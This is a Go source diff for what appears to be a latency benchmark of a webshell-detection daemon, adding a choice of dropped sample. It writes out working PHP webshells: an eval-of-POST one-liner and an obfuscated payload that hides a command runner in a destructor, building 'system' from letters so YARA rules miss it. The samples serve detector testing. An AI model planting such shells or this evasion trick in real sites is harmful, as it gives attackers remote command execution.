@@ -69,6 +69,7 @@ func parseFlags() options {
 	flag.StringVar(&o.workParent, "workdir", "build/bench", "make the temp dir (web roots, state, config) below this `dir`")
 	flag.StringVar(&o.settle, "settle", "250ms", "agent.settle in the daemon's config (250ms is the default)")
 	flag.BoolVar(&o.keep, "keep", false, "keep the temp dir (agent logs, configs) instead of removing it")
+	flag.StringVar(&payloadKind, "payload", "yara", "webshell dropped: yara (a one-line eval the YARA rules flag critical) or php (a 40 KB page whose shell only the PHP analyzer finds)")
 	flag.IntVar(&o.drops, "drops", 1000, "webshells dropped one at a time")
 	flag.IntVar(&o.renames, "rename-drops", 200, "webshells written outside the root and renamed in, one at a time (0: none)")
 	flag.IntVar(&o.warmup, "warmup", 10, "drops before those, not counted")
@@ -455,11 +456,41 @@ rate = 0.0
 	return p, nil
 }
 
-// webshell is a small PHP webshell the bundled rules flag as critical, with
-// a comment that makes every copy's hash unique.
+// payloadKind chooses the webshell dropped (-payload).
+var payloadKind = "yara"
+
+// webshell is a PHP webshell with a comment that makes every copy's hash
+// unique: a one-liner the bundled YARA rules flag as critical, or (-payload
+// php) a 40 KB page of ordinary functions ending in a class whose
+// destructor runs a command from the request through a name built from a
+// literal's letters, which only the PHP analyzer finds: the whole file is
+// parsed and followed on the alert's path.
 func webshell(phase string, i int) []byte {
+	if payloadKind == "php" {
+		b := fmt.Appendf(nil, "<?php\n// latencybench %s %d %d\n", phase, i, time.Now().UnixNano())
+		b = append(b, phpPayload...)
+		return b
+	}
 	return fmt.Appendf(nil, "<?php @eval($_POST[\"x\"]); ?>\n<!-- latencybench %s %d %d -->\n", phase, i, time.Now().UnixNano())
 }
+
+var phpPayload = func() []byte {
+	var b []byte
+	for i := range 300 {
+		b = fmt.Appendf(b, "function helper_%d($a, $b) {\n    $r = array_map('trim', explode(',', $a));\n    return count($r) > %d ? implode('-', $r) . $b : $b;\n}\n", i, i%7)
+	}
+	return append(b, `class Page {
+    public $v;
+    function __construct($r) { $this->v = $r['q']; }
+    function __destruct() {
+        $k = 'abcdefghijklmnopqrstuvwxyz';
+        $n = $k[18] . $k[24] . $k[18] . $k[19] . $k[4] . $k[12];
+        $n($this->v);
+    }
+}
+new Page($_REQUEST);
+`...)
+}()
 
 // benignFile returns the name and content of the i-th harmless file.
 func benignFile(i int) (string, []byte) {
